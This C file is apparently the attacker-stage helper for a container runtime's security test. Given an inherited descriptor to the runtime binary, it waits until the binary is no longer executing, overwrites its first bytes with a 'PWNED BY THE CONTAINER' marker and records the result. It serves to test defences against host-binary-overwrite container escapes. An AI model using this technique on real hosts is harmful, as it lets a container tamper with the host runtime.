/* The attacker's second stage for tests/system/security_exe.sh: given an
 * O_PATH fd of the runtime's binary (inherited from fake_ld.c), reopen it
 * for writing once no process runs it (ETXTBSY gone) and overwrite its
 * first bytes.  Reports "wrote", "gave up" or the error in /out/result. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void result(const char *s)
{
	FILE *f = fopen("/out/result", "w");
	if (f) {
		fprintf(f, "%s\n", s);
		fclose(f);
	}
}

int main(int argc, char **argv)
{
	char path[64], msg[128];
	struct timespec ts = {0, 10 * 1000 * 1000};

	if (argc < 2)
		return 2;
	snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[1]);
	for (int i = 0; i < 3000; i++) { /* 30 s */
		int w = open(path, O_WRONLY);
		if (w >= 0) {
			ssize_t n = pwrite(w, "PWNED BY THE CONTAINER", 22, 0);
			result(n == 22 ? "wrote" : "write failed");
			return 0;
		}
		if (errno != ETXTBSY) {
			snprintf(msg, sizeof(msg), "open for writing: %s", strerror(errno));
			result(msg);
			return 1;
		}
		nanosleep(&ts, NULL);
	}
	result("gave up: still busy");
	return 1;
}
